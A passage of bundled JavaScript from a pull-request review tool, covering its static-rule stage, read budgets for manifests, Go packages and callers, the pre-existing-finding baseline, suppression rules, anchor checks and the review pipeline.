            pending = workspace.readFile(path, ref).catch((error) => {
                // A failed read is no absent manifest: the fact stays incomplete, so nothing is dropped.
                logger.debug(`could not read ${path}: ${error instanceof Error ? error.message : String(error)}`);
                return undefined;
            });
            cache.set(key, pending);
        }
        return pending;
    };
    /**
     * The manifests from `dir` up to the root at `ref`, nearest first; `nearest` stops at the first.
     * Every folder's read starts at once: locally reads started together are one `git cat-file` (a
     * walk read by read would start one git per folder); over the API it is the same requests, or a
     * few more above a nearest manifest, within `maxReads`.
     */
    const chainAt = async (dir, ref, nearest) => {
        const chain = [];
        const folders = [];
        for (let at = dir; at !== null; at = parentOf(at))
            folders.push(at);
        const texts = folders.map((at) => read((0,static_manifest/* joinPath */.uJ)(at, 'package.json'), ref));
        for (const [index, at] of folders.entries()) {
            const text = await texts[index];
            if (text === undefined)
                return { chain, complete: false };
            const manifest = text === null ? null : (0,static_manifest/* parseManifest */.Ng)(text, at);
            if (manifest)
                chain.push(manifest);
            if (manifest && nearest)
                break;
        }
        return { chain, complete: true };
    };
    const lockOf = async (chain) => {
        for (const manifest of chain)
            for (const name of lockfile/* LOCKFILE_NAMES */.d) {
                const path = (0,static_manifest/* joinPath */.uJ)(manifest.dir, name);
                const text = await read(path, headRef);
                if (text === undefined)
                    return undefined;
                if (text !== null)
                    return { path, text };
            }
        return null;
    };
    const factFor = async (path, need) => {
        const dir = parentOf(path) ?? '';
        // Both chains start together, so locally they are read in one batch.
        const baseChain = baseRef === null ? null : chainAt(dir, baseRef, true);
        const headChain = need.versions ? chainAt(dir, headRef, false) : null;
        const base = baseChain === null ? null : (await baseChain).chain[0];
        const runBy = base ? await runningAtBase(base, path, baseRef, read) : undefined;
        if (headChain === null)
            return { chain: [], complete: false, lock: null, runBy };
        const head = await headChain;
        const lock = head.complete ? await lockOf(head.chain) : undefined;
        return { chain: head.chain, complete: head.complete && lock !== undefined, lock: lock ?? null, runBy };
    };
    return { factFor, reads: () => reads };
}
/**
 * What of the base's manifest runs `path`: a script, else a build hook its electron-builder
 * configuration names (in `package.json`'s `build`, or the first configuration file beside it;
 * read only for a package that declares electron-builder).
 */
async function runningAtBase(base, path, baseRef, read) {
    const script = (0,static_manifest/* scriptRunning */.lG)(base, path);
    if (script !== undefined)
        return `\`package.json\` runs it as the script \`${script}\``;
    if (!usesElectronBuilder(base) || baseRef === null || base.entries.has(path))
        return undefined;
    const inManifest = hooksOf(base.builderConfig, base.dir, (0,static_manifest/* joinPath */.uJ)(base.dir, 'package.json')).get(path);
    if (inManifest !== undefined)
        return inManifest;
    for (const name of BUILDER_CONFIGS) {
        const text = await read((0,static_manifest/* joinPath */.uJ)(base.dir, name), baseRef);
        if (text === undefined)
            return undefined;
        if (text !== null)
            return (await parseBuilderConfig(text, base.dir, name)).get(path);
    }
    return undefined;
}
/** The folder holding `path` ('' for the root's files), null above the root. */
function parentOf(path) {
    if (path === '')
        return null;
    const at = path.lastIndexOf('/');
    return at < 0 ? '' : path.slice(0, at);
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/static-lens/package-reads.js
/**
 * Package files a review may read over the API, out of the run's `maxFileReads`: a small package's
 * files. Where a read costs no request (a local checkout) every package is read.
 */
const PACKAGE_READS = 40;
/** The reads left for packages: none past the run's budget; unlimited where a read costs no request. */
function packageReadBudget(maxFileReads, readSoFar) {
    if (!Number.isFinite(maxFileReads))
        return Infinity;
    return Math.max(0, Math.min(PACKAGE_READS, maxFileReads - readSoFar));
}
/** A reader of Go packages for one change; `packageOf` is what the static rules call. */
function goPackageReader(options) {
    const { workspace, headRef, maxReads, logger } = options;
    // One answer per folder: every file of a package that asks shares it (and its parsed trees).
    const cache = new Map();
    let reads = 0;
    const readPackage = async (dir, path) => {
        // The listing is one request over the API: it counts as a read, so a run with many packages
        // to look at stops listing once the budget is spent.
        if (!workspace.listFolder || reads >= maxReads)
            return undefined;
        reads += 1;
        const listed = await workspace.listFolder(dir, headRef);
        // The folder's own Go files (listFolder gives no subfolder: those are other packages).
        const paths = listed.filter((p) => p.endsWith('.go') && p.slice(0, p.lastIndexOf('/')) === dir);
        // A listing without the file itself is not the package the file is in.
        if (!paths.includes(path))
            return undefined;
        if (reads + paths.length > maxReads)
            return undefined;
        reads += paths.length;
        const texts = await Promise.all(paths.map((p) => workspace.readFile(p, headRef)));
        const files = paths.map((p, i) => ({ path: p, text: texts[i] }));
        return files.every((f) => typeof f.text === 'string') ? files : undefined;
    };
    const packageOf = (path) => {
        const at = path.lastIndexOf('/');
        // A file at the root: its package is the whole root folder, whose listing is the repository's.
        if (at < 0)
            return Promise.resolve(undefined);
        const dir = path.slice(0, at);
        let pending = cache.get(dir);
        if (!pending) {
            pending = readPackage(dir, path).catch((error) => {
                // A failed read is no empty package: the rules keep their grade.
                logger.debug(`could not read the Go package ${dir}: ${error instanceof Error ? error.message : String(error)}`);
                return undefined;
            });
            cache.set(dir, pending);
        }
        return pending;
    };
    return { packageOf, reads: () => reads };
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/caller-files.js
var caller_files = __webpack_require__(73709);
;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/static-lens/caller-reads.js

/** Searches for callers one change may make: each is a search of the whole head. */
const CALLER_SEARCHES = 12;
/** Files one change may read for callers (searches count too), on top of what the run reads. */
const CALLER_READS = 40;
/** Lines one search may find; a search that finds as many may have missed some: no answer. */
const CALLER_HITS = 200;
/** The reads left for callers: CALLER_READS, or fewer when the run's budget has fewer left. */
function callerReadBudget(maxFileReads, readSoFar) {
    if (!Number.isFinite(maxFileReads))
        return CALLER_READS;
    return Math.max(0, Math.min(CALLER_READS, maxFileReads - readSoFar));
}
// A name as a whole word of JavaScript (`$` and `_` are word characters there), in the extended
// regular expressions `git grep -E` takes and JavaScript's RegExp reads the same way.
const wordOf = (name) => {
    const escaped = name.replace(/\$/g, '\\$');
    return `(^|[^A-Za-z0-9_$])${escaped}([^A-Za-z0-9_$]|$)`;
};
/** A reader of the files naming a function for one change; `filesNaming` is what the static rules call. */
function callerReader(options) {
    const { workspace, headRef, maxReads, logger } = options;
    const maxSearches = options.maxSearches ?? CALLER_SEARCHES;
    const answers = new Map();
    // A file named by several functions is read once, and counted once; its text is one object
    // (static/caller-files.ts parses each once).
    const texts = new Map();
    let searches = 0;
    let reads = 0;
    const search = async (name) => {
        if (!/^[A-Za-z_$][\w$]*$/.test(name) || searches >= maxSearches || searches + reads >= maxReads)
            return undefined;
        searches += 1;
        const hits = await workspace.searchCode(wordOf(name), { regex: true, limit: CALLER_HITS, ref: headRef });
        if (hits.length >= CALLER_HITS)
            return undefined;
        const paths = [...new Set(hits.map((h) => h.path))];
        if (paths.some((p) => (0,caller_files/* callerFileKind */._)(p) === 'opaque'))
            return undefined;
        const code = paths.filter((p) => (0,caller_files/* callerFileKind */._)(p) === 'code');
        const unread = code.filter((p) => !texts.has(p));
        if (searches + reads + unread.length > maxReads)
            return undefined;
        reads += unread.length;
        for (const p of unread)
            texts.set(p, workspace.readFile(p, headRef).then((text) => (text === null ? null : { path: p, text })));
        const files = await Promise.all(code.map((p) => texts.get(p)));
        return files.every((f) => f !== null) ? files : undefined;
    };
    const filesNaming = (name) => {
        let pending = answers.get(name);
        if (!pending) {
            pending = search(name).catch((error) => {
                // A failed search or read is no "no caller": the rules keep their grade.
                logger.debug(`could not read the callers of ${name}: ${error instanceof Error ? error.message : String(error)}`);
                return undefined;
            });
            answers.set(name, pending);
        }
        return pending;
    };
    return { filesNaming, searches: () => searches, reads: () => reads };
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/checks/file-checks.js + 13 modules
var file_checks = __webpack_require__(2202);
;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/static-lens/static-baseline.js


const normalized = (text) => text.replace(/\s+/g, ' ').trim();
/**
 * Splits the findings of `files` into the new ones and those the base version already had. A base
 * finding can excuse only a head finding of its own rule, so each base is scanned with only the
 * rules that reported on its head file, not the whole catalog again (issue 48).
 */
async function splitPreExisting(findings, files, contents, roleOf, scan = run_static_rules/* runStaticRules */.Hc) {
    const byPath = new Map(files.map((f) => [f.path, f]));
    const split = { fresh: [], preExisting: [], unreadBase: [] };
    for (const path of new Set(findings.map((f) => f.path))) {
        const of = findings.filter((f) => f.path === path);
        const file = byPath.get(path);
        const head = contents.get(path);
        // An added file has no base: nothing there to have pre-existed.
        if (!file || file.status === 'added' || file.status === 'copied' || typeof head !== 'string') {
            split.fresh.push(...of);
            continue;
        }
        const base = baseOf(head, file.hunks);
        if (base === null) {
            split.unreadBase.push(path);
            split.fresh.push(...of);
            continue;
        }
        // Only a finding that could have a twin needs the base scanned, and only with its rule.
        const possible = mayHaveTwin(base, file.hunks);
        const rules = new Set(of.filter(possible).map((f) => f.ruleId));
        if (rules.size === 0) {
            split.fresh.push(...of);
            continue;
        }
        const old = await baseFindings({ path, content: base, role: roleOf(path) }, rules, scan);
        for (const finding of of) {
            const twin = takeTwin(old, finding, file.hunks);
            (twin ? split.preExisting : split.fresh).push(finding);
        }
    }
    return split;
}
/** The file before the change: `head` with the hunks undone; null when a hunk does not fit `head`. */
function baseOf(head, hunks) {
    const lines = head.split('\n');
    const out = [];
    let next = 0; // index into `lines` of the next head line not yet copied
    const same = (a, b) => a !== undefined && a.replace(/\r$/, '') === b.replace(/\r$/, '');
    for (const hunk of hunks) {
        const start = Math.max(hunk.newStart - 1, 0);
        if (start < next)
            return null;
        out.push(...lines.slice(next, start));
        next = start;
        for (const line of hunk.lines) {
            if (line.kind === 'del') {
                out.push(line.text);
                continue;
            }
            if (!same(lines[next], line.text))
                return null;
            if (line.kind === 'context')
                out.push(lines[next]);
            next++;
        }
    }
    out.push(...lines.slice(next));
    return out.join('\n');
}
/** The findings of `rules` on the whole base file, read under the head path (same grammar, same class). */
async function baseFindings(file, rules, scan) {
    const lines = file.content.split('\n').length;
    const every = new Set(Array.from({ length: lines }, (_, i) => i + 1));
    const result = await scan([{ ...file, changedLines: every }], { only: rules });
    return result.findings;
}
/**
 * Whether a base finding could make a head finding pre-existing (takeTwin): an ast-grep rule's
 * finding quotes its line, so a base finding's anchor is one of the base file's lines and the head
 * finding's text must be one of them too, or its hunk must have deleted a line. When neither holds, no scan of the base can excuse it, and a file
 * whose findings all sit on new lines of hunks that only add is not scanned twice (issue 48).
 */
function mayHaveTwin(base, hunks) {
    const lines = new Set(base.split('\n').map(normalized));
    // Rules of the file checks: their anchor may differ from the line (a token masked), never skipped.
    const checkRules = new Set(file_checks/* FILE_CHECKS */.d.flatMap((check) => check.rules.map((rule) => rule.id)));
    return (finding) => checkRules.has(finding.ruleId) ||
        lines.has(normalized(finding.anchor ?? '')) ||
        deletedLinesOfHunk(hunks, finding.line).size > 0;
}
/** Removes and returns the base finding that makes `finding` pre-existing, if any. */
function takeTwin(old, finding, hunks) {
    const text = normalized(finding.anchor ?? '');
    let at = old.findIndex((o) => o.ruleId === finding.ruleId && normalized(o.anchor ?? '') === text);
    if (at < 0) {
        const replaced = deletedLinesOfHunk(hunks, finding.line);
        at = old.findIndex((o) => o.ruleId === finding.ruleId && replaced.has(o.line));
    }
    if (at < 0)
        return false;
    old.splice(at, 1);
    return true;
}
/** The old line numbers the hunk holding new line `line` deleted. */
function deletedLinesOfHunk(hunks, line) {
    const hunk = hunks.find((h) => line >= h.newStart && line < h.newStart + Math.max(h.newLines, 1));
    const deleted = new Set();
    for (const l of hunk?.lines ?? [])
        if (l.kind === 'del' && l.oldLine !== null)
            deleted.add(l.oldLine);
    return deleted;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/static-lens/static-warnings.js
/** How many paths a warning names before it counts the rest. */
const NAMED = 10;
const listed = (items) => items.length > NAMED
    ? `${items.slice(0, NAMED).join(', ')} and ${items.length - NAMED} more`
    : items.join(', ');
/** The warnings for what the static lens skipped, cut or failed on; empty when it read everything. */
function staticLensWarnings(result, maxReviewSeconds) {
    const warnings = [];
    if (result.overLimits.length > 0)
        warnings.push(`static rules skipped ${result.overLimits.length} file(s) too large or deep to check in bounded time: ${listed(result.overLimits.map((s) => `${s.path} (${s.reason})`))}`);
    // A native part that cannot load costs its language, once, not the review (issue 46, point 1).
    for (const u of result.unavailable ?? [])
        warnings.push(`static rules are off for ${u.language} on this machine, ${u.paths.length} file(s) not checked (${listed(u.paths)}): ${u.reason}`);
    for (const f of result.failed)
        warnings.push(`static rule ${f.rule} failed on ${f.path}, its findings there are missing: ${f.reason}`);
    if (result.unread.length > 0)
        warnings.push(`max-review-seconds (${maxReviewSeconds ?? '?'}) ran out during the static rules: ${result.unread.length} file(s) not checked: ${listed(result.unread)}`);
    return warnings;
}
/**
 * The warning for changed files the rules cover that were read as nothing (null: a 404 or a refused
 * read; empty though lines were added): the rules never saw them, so their findings are missing.
 * Each is named with why, when the workspace knows (too large for one read, the run's total spent).
 */
function unreadWarnings(files) {
    if (files.length === 0)
        return [];
    const named = files.map((f) => (f.reason === undefined ? f.path : `${f.path} (${f.reason})`));
    return [
        `static rules did not check ${files.length} changed file(s) whose contents could not be read ` +
            `(unreadable, or empty though lines were added), their findings are missing: ${listed(named)}`,
    ];
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/static-lens/static-lens.js
/**
 * The static lens stage: prlens's own rules over the added lines of every kept file that could be
 * read. With `static-baseline: new` (the default), a finding the base version already had is held
 * back as pre-existing: counted in the report, not posted.
 */








/** Runs the static rules and adds their new findings to the set. */
async function staticLens(set, run) {
    const { clock, logger } = run.context;
    const { kept, classes, contents } = set.files;
    const roleOf = (path) => (classes.get(path) === 'test' ? 'test' : 'source');
    const staticFiles = [];
    // Read, with added lines, yet no text: a failed read (a 404, a body that never came), not a clean file.
    const unchecked = [];
    for (const file of kept) {
        const changedLines = addedLines(file);
        const content = contents.get(file.path);
        if (contents.has(file.path) && !content && (0,run_static_rules/* staticChecks */.yP)(file))
            unchecked.push({
                path: file.path,
                reason: run.change.workspace.unreadReason?.(file.path, run.change.headRef),
            });
        if (changedLines.size > 0 && content)
            staticFiles.push({
                path: file.path,
                content,
                changedLines,
                role: roleOf(file.path),
                sample: (0,code_paths/* isSamplePath */.Q5)(file.path),
                copy: looksCopied(file.path, content),
            });
    }
    const { manifests, packages, callers } = readersFor(run, contents.size);
    const result = await (0,run_static_rules/* runStaticRules */.Hc)(staticFiles, {
        deadline: Number.isFinite(run.deadline) ? { at: run.deadline, clock } : undefined,
        manifests: manifests.factFor,
        goPackage: packages.packageOf,
        callers: callers.filesNaming,
    });
    if (manifests.reads() > 0)
        logger.debug(`static rules read ${manifests.reads()} manifest(s)`);
    if (packages.reads() > 0)
        logger.debug(`static rules read ${packages.reads()} file(s) of Go packages`);
    if (callers.searches() > 0)
        logger.debug(`static rules searched ${callers.searches()} name(s) and read ${callers.reads()} file(s) for callers`);
    const cut = [...unreadWarnings(unchecked), ...staticLensWarnings(result, run.maxReviewSeconds)];
    for (const skip of result.skipped)
        logger.debug(`static rules skipped ${skip.path}: ${skip.reason}`);
    for (const s of result.suppressed)
        logger.debug(`${s.rule} at ${s.path}:${s.line} suppressed by ${s.marker}`);
    const baseline = await baselineOf(result, set, run);
    return {
        ...set,
        findings: [...set.findings, ...baseline.fresh],
        hidden: [
            ...set.hidden,
            ...baseline.preExisting.map((finding) => ({ finding, why: 'pre-existing' })),
        ],
        lenses: [...set.lenses, 'static'],
        warnings: [...set.warnings, ...cut, ...baseline.warnings],
        incomplete: set.incomplete || cut.length > 0,
        reach: {
            ...set.reach,
            staticScanned: result.scanned,
            staticRules: result.rulesRun.length,
            suppressedInline: result.suppressed.length,
        },
    };
}
/**
 * The readers of what a file's findings may need besides the file, each within its share of the
 * run's reads: the manifests, a Go package's files, an exported function's callers. Each reads only
 * for the files whose findings it could change.
 */
function readersFor(run, readSoFar) {
    const manifestReads = manifestReadBudget(run.maxFileReads, readSoFar);
    const packageReads = packageReadBudget(run.maxFileReads, readSoFar + manifestReads);
    const { workspace, headRef } = run.change;
    const logger = run.context.logger;
    return {
        manifests: manifestReader({ workspace, headRef, baseRef: run.baseRef, maxReads: manifestReads, logger }),
        packages: goPackageReader({ workspace, headRef, maxReads: packageReads, logger }),
        callers: callerReader({
            workspace,
            headRef,
            maxReads: callerReadBudget(run.maxFileReads, readSoFar + manifestReads + packageReads),
            logger,
        }),
    };
}
/** Splits the static findings into new ones and those the base version already had. */
async function baselineOf(result, set, run) {
    if ((run.settings.staticBaseline ?? 'new') === 'all' || result.findings.length === 0)
        return { fresh: result.findings, preExisting: [], warnings: [] };
    const { kept, classes, contents } = set.files;
    const split = await splitPreExisting(result.findings, kept, contents, (path) => classes.get(path) === 'test' ? 'test' : 'source');
    const warnings = split.unreadBase.length > 0
        ? [
            `could not rebuild the base version of ${split.unreadBase.join(', ')} from the diff: all their static findings are reported as new`,
        ]
        : [];
    return { fresh: split.fresh, preExisting: split.preExisting, warnings };
}
/** The changed (added) lines of a file on the RIGHT side: what the static lens may flag. */
function addedLines(file) {
    const lines = new Set();
    for (const hunk of file.hunks) {
        for (const line of hunk.lines)
            if (line.kind === 'add' && line.newLine !== null)
                lines.add(line.newLine);
    }
    return lines;
}

// EXTERNAL MODULE: ./.tmp/bundle-src/config/structured.js
var structured = __webpack_require__(15351);
// EXTERNAL MODULE: ./.tmp/bundle-src/config/path-match.js + 1 modules
var path_match = __webpack_require__(82037);
;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/suppress/finding-rules.js


const asList = (value) => Array.isArray(value) ? value : [value];
/** Compiles the rules; a bad pattern throws naming the rule (the loader checked them already). */
function compileFindingRules(rules) {
    return rules.map((rule, index) => {
        const tests = [];
        const { match } = rule;
        if (match.path !== undefined) {
            const matches = (0,path_match/* globMatcher */.fU)(match.path);
            tests.push((f) => matches(f.path));
        }
        if (match.category !== undefined) {
            const wanted = new Set(asList(match.category).map((c) => c.trim().toLowerCase()));
            tests.push((f) => wanted.has(f.category.trim().toLowerCase()));
        }
        if (match.lens !== undefined) {
            const wanted = new Set(asList(match.lens));
            tests.push((f) => wanted.has(f.lens));
        }
        if (match.severity !== undefined) {
            const wanted = new Set(asList(match.severity));
            tests.push((f) => wanted.has(f.severity));
        }
        if (match.title !== undefined) {
            const re = (0,structured/* compileTitlePattern */.cg)(match.title);
            if (typeof re === 'string')
                throw new Error(`finding-rules[${index}].match.title: ${re}`);
            tests.push((f) => re.test(f.title));
        }
        return {
            index,
            ...(rule.reason ? { reason: rule.reason } : {}),
            // An empty match is refused by the schema; guard anyway so a rule never hits everything by accident.
            matches: (f) => tests.length > 0 && tests.every((test) => test(f)),
            action: rule.action,
        };
    });
}
/** Applies the first matching rule to each finding. */
function applyFindingRules(findings, rules) {
    const result = { kept: [], dropped: [], regraded: [] };
    for (const finding of findings) {
        const rule = rules.find((r) => r.matches(finding));
        if (!rule)
            result.kept.push(finding);
        else if (rule.action === 'drop')
            result.dropped.push({ finding, rule: rule.index });
        else if (rule.action.severity === finding.severity)
            result.kept.push(finding);
        else {
            result.regraded.push({ finding, rule: rule.index, from: finding.severity });
            result.kept.push({ ...finding, severity: rule.action.severity });
        }
    }
    return result;
}
/** One warning line per rule that acted: `finding-rules[0] (tests are exempt): dropped 3 findings`. */
function findingRuleWarnings(result, rules) {
    const lines = [];
    for (const rule of rules) {
        const dropped = result.dropped.filter((d) => d.rule === rule.index).length;
        const regraded = result.regraded.filter((r) => r.rule === rule.index);
        if (dropped === 0 && regraded.length === 0)
            continue;
        const label = `finding-rules[${rule.index}]${rule.reason ? ` (${rule.reason})` : ''}`;
        const what = rule.action === 'drop'
            ? `dropped ${plural(dropped)}`
            : `re-graded ${plural(regraded.length)} to ${rule.action.severity}`;
        lines.push(`${label}: ${what}`);
    }
    return lines;
}
function plural(n) {
    return `${n} finding${n === 1 ? '' : 's'}`;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/suppress/suppress-learned.js
/** Splits findings into those still reported and those the team rejected. */
function suppressLearned(findings, learned) {
    const kept = [];
    const suppressed = [];
    for (const f of findings)
        (learned.has(f.fingerprint) ? suppressed : kept).push(f);
    return { kept, suppressed };
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/suppress/suppress.js


/** Applies finding rules, rejections and ignored fingerprints to the inline and unanchored findings. */
function suppress(set, run) {
    const rules = compileFindingRules(run.settings.findingRules ?? []);
    const rejected = new Set(run.settings.rejectedFingerprints ?? []);
    const ignored = new Set(run.settings.ignoredFingerprints ?? []);
    const hidden = [];
    const ruled = { dropped: [], regraded: [] };
    const apply = (findings) => {
        const byRules = applyFindingRules(findings, rules);
        ruled.dropped.push(...byRules.dropped);
        ruled.regraded.push(...byRules.regraded);
        hidden.push(...byRules.dropped.map(({ finding }) => ({ finding, why: 'finding-rule' })));
        const taught = suppressLearned(byRules.kept, rejected);
        hidden.push(...taught.suppressed.map((finding) => ({ finding, why: 'rejected' })));
        // A dismissed finding stays dismissed inside a merge: ignored fingerprints go before it.
        for (const finding of taught.kept.filter((f) => ignored.has(f.fingerprint)))
            hidden.push({ finding, why: 'ignored' });
        return taught.kept.filter((f) => !ignored.has(f.fingerprint));
    };
    const findings = apply(set.findings);
    const unanchored = apply(set.unanchored);
    return {
        ...set,
        findings,
        unanchored,
        hidden: [...set.hidden, ...hidden],
        warnings: [...set.warnings, ...findingRuleWarnings(ruled, rules)],
    };
}

// EXTERNAL MODULE: ./.tmp/bundle-src/core/line-index.js
var line_index = __webpack_require__(23644);
;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/verify-anchors/verify-anchors.js
/**
 * The verify stage: the one check that decides whether a finding is posted inline. Whatever lens
 * produced it, a finding is inline only when its producer placed it on a line (`anchored`) and
 * GitHub would take a review comment there (the line index of the kept files). The rest is kept
 * for the summary, never dropped. (github/comments.ts checks again only as a guard before an
 * all-or-nothing request, against the diff it posts on.)
 */

/** Splits the candidates into inline findings and unanchored ones. */
function verifyAnchors(set, run) {
    const indexes = new Map(set.files.kept.map((file) => [file.path, (0,line_index/* buildLineIndex */.T)(file)]));
    const placed = checkPlaces(set.findings, indexes);
    return {
        ...set,
        findings: placed.anchored,
        unanchored: markOutsideChange([...set.unanchored, ...placed.unanchored], run.change.files),
    };
}
/** Checks each finding's claimed place against the line index: inline, or unanchored. */
function checkPlaces(findings, indexes) {
    const anchored = [];
    const unanchored = [];
    for (const finding of findings) {
        const index = indexes.get(finding.path);
        const check = index?.check({ side: finding.side, line: finding.line, start_line: finding.start_line });
        // A finding its producer could not place keeps no line to check: its line is only a model's guess.
        if (finding.anchored && check?.ok)
            anchored.push({ ...finding, anchored: true });
        else
            unanchored.push({ ...finding, anchored: false });
    }
    return { anchored, unanchored };
}
/**
 * Marks the unpinned findings whose file the change does not touch at all (a model naming a file it
 * never saw): they stay in the report, labelled, but never count for `fail-on`.
 */
function markOutsideChange(unanchored, files) {
    const changed = new Set(files.flatMap((f) => (f.oldPath ? [f.path, f.oldPath] : [f.path])));
    return unanchored.map((f) => (changed.has(f.path) ? f : { ...f, outside_change: true }));
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/review/pipeline.js
/**
 * The review pipeline shared by the CLI and the action: one ordered list of stages over one finding
 * set (src/review/types.ts). Each stage is a function of the set the previous one returned; each
 * decision about which findings survive is made once, in its stage. It decides; callers wire ports.
 */














/** The stages in order; `imported` and `modelLenses` take their own inputs. */
function stagesFor(input) {
    return [
        { name: 'select', run: select_stage/* select */.L },
        { name: 'staticLens', run: staticLens },
        { name: 'imported', run: imported(input.imported) },
        { name: 'modelLenses', run: modelLenses(input.model) },
        { name: 'lookalikeFiles', run: lookalikeFiles },
        { name: 'dedupe', run: dedupe },
        { name: 'verifyAnchors', run: verifyAnchors },
        { name: 'suppress', run: suppress },
        { name: 'mergeSameProblem', run: merge_stage_mergeSameProblem },
        { name: 'floors', run: floors },
        { name: 'checkSuggestions', run: suggestions_stage_checkSuggestions },
    ];
}
/** Runs the stages over a parsed change and reports what they decided. */
async function runPipeline(input, stages = stagesFor(input)) {
    const run = stageContext(input);
    let set = emptySet();
    for (const stage of stages)
        set = await stage.run(set, run);
    return buildResult(set, {
        settings: input.settings,
        withModel: input.model !== undefined,
        usage: input.model ? input.model.usage() : (0,types/* emptyUsage */.ly)(),
    });
}
/** What every stage reads, from the pipeline's input. */
function stageContext(input) {
    const limits = input.limits ?? {};
    return {
        context: input.context,
        change: input.change,
        baseRef: input.baseRef ?? null,
        settings: input.settings,
        withModel: input.model !== undefined,
        deadline: limits.deadline ?? Infinity,
        maxReviewSeconds: limits.maxReviewSeconds,
        maxFileReads: limits.maxFileReads ?? Infinity,
    };
}
/** The set before the first stage: nothing selected, nothing found. */
function emptySet() {
    return {
        files: {
            kept: [],
            excluded: [],
            classes: new Map(),
            contents: new Map(),
            unconfirmed: [],
            pathFilter: path_filter/* NO_PATH_FILTER */.ZB,
        },
        findings: [],
        unanchored: [],
        hidden: [],
        droppedByAudit: [],
        auditDuplicates: new Map(),
        merges: [],
        lenses: [],
        warnings: [],
        incomplete: false,
        reach: { staticScanned: [], staticRules: 0, suppressedInline: 0, modelFiles: [] },
    };
}


/***/ }),

/***/ 20603:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   p: () => (/* binding */ runContext)
/* harmony export */ });
/* harmony import */ var _core_ports_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(11187);
/**
 * What every stage of one review shares, built once by the use case and handed down whole: the
 * run's ports (`RunContext`) and the change under review (`ChangeUnderReview`). A stage's input is
 * `{ context, change, <its own few fields> }`, so a port added here reaches every stage without
 * being copied field by field through eight input types.
 *
 * Budgets are not here: each stage gets its own slice (the model lenses get what is left of the
 * run's time), so they stay fields of the stage that spends them.
 */

/** A run context from the ports a caller has; an absent observer records nothing. */
function runContext(ports) {
    return {
        clock: ports.clock,
        logger: ports.logger,
        observer: ports.observer ?? _core_ports_js__WEBPACK_IMPORTED_MODULE_0__/* .noopObserver */ .V,
        ...(ports.onProgress ? { onProgress: ports.onProgress } : {}),
    };
}


/***/ }),

/***/ 31010:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Cz: () => (/* binding */ prefetchWarning),
/* harmony export */   _Q: () => (/* binding */ prefetchContents),
/* harmony export */   qT: () => (/* binding */ runDeadline)
/* harmony export */ });
const DEFAULT_READ_CONCURRENCY = 8;
/** When max-review-seconds runs out for a run that started at `started` (on its clock); Infinity for 0. */
function runDeadline(started, maxReviewSeconds) {
    return maxReviewSeconds > 0 ? started + maxReviewSeconds * 1000 : Infinity;
}
/**
 * Reads `files` (most changed first, so the budget goes where the change is), within the limits.
 * Never throws for a limit: what was not read is in `skipped`.
 */
async function prefetchContents(files, workspace, ref, limits) {
    const maxReads = limits.maxReads ?? Infinity;
    const deadline = limits.deadline ?? Infinity;
    const order = [...files].sort((a, b) => changed(b) - changed(a));
    const contents = new Map();
    const skipped = [];
    let next = 0;
    let started = 0;
    const worker = async () => {
        while (next < order.length) {
            const file = order[next++];
            if (started >= maxReads)
                skipped.push({ path: file.path, reason: 'read-budget' });
            else if (limits.clock.now() >= deadline)
                skipped.push({ path: file.path, reason: 'deadline' });
            else {
                started++;
                contents.set(file.path, await workspace.readFile(file.path, ref));
            }
        }
    };
    const workers = Math.min(limits.concurrency ?? DEFAULT_READ_CONCURRENCY, order.length);
    await Promise.all(Array.from({ length: workers }, worker));
    return { contents, skipped };
}
/** One warning for what was not read, naming the first files and the limit that stopped the reads. */
function prefetchWarning(skipped, limits, hasModel) {
    if (skipped.length === 0)
        return null;
    const budget = skipped.filter((s) => s.reason === 'read-budget').length;
    const why = [
        ...(budget > 0
            ? [`${budget} past the budget of ${limits.maxReads} file reads a run (GitHub's rate limit)`]
            : []),
        ...(budget < skipped.length
            ? [`${skipped.length - budget} after max-review-seconds (${limits.maxReviewSeconds}) ran out`]
            : []),
    ].join(', ');
    const shown = skipped.slice(0, 10).map((s) => s.path);
    const more = skipped.length > shown.length ? ` and ${skipped.length - shown.length} more` : '';
    const effect = hasModel
        ? 'the static rules did not run on them and the model saw only their diff'
        : 'they were not reviewed';
    return `${skipped.length} file(s) not read, so ${effect}: ${why}; ${shown.join(', ')}${more}`;
}
function changed(file) {
    let lines = 0;
    for (const hunk of file.hunks)
        for (const line of hunk.lines)
            if (line.kind !== 'context')
                lines++;
    return lines;
}


/***/ }),

/***/ 74499:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  f: () => (/* binding */ selectChange)
});

// EXTERNAL MODULE: ./.tmp/bundle-src/core/repo-path.js
var repo_path = __webpack_require__(36535);
// EXTERNAL MODULE: ./.tmp/bundle-src/review/select/file-class.js
var file_class = __webpack_require__(48202);
// EXTERNAL MODULE: ./.tmp/bundle-src/review/select/select.js
var select_select = __webpack_require__(30857);
;// CONCATENATED MODULE: ./.tmp/bundle-src/review/select/base-look.js


/** The changed `vendor/modules.txt` files of a change, by their vendor folder (`vendor/`, `a/vendor/`). */
function vendorUpdates(files) {
    const updates = new Map();
    for (const file of files) {
        if (!/(?:^|\/)vendor\/modules\.txt$/.test(file.path) || file.status === 'deleted')
            continue;
        const folder = file.path.slice(0, file.path.length - 'modules.txt'.length);
        // Lines changed that the diff does not show (binary, or a patch too large to send); a change of
        // mode or name alone changes no line and updates nothing.
        if (file.hunks.length === 0 && (file.binary || file.additions + file.deletions > 0)) {
            updates.set(folder, 'unknown');
            continue;
        }
        const added = file.hunks.flatMap((h) => h.lines.filter((l) => l.kind === 'add').map((l) => l.text));
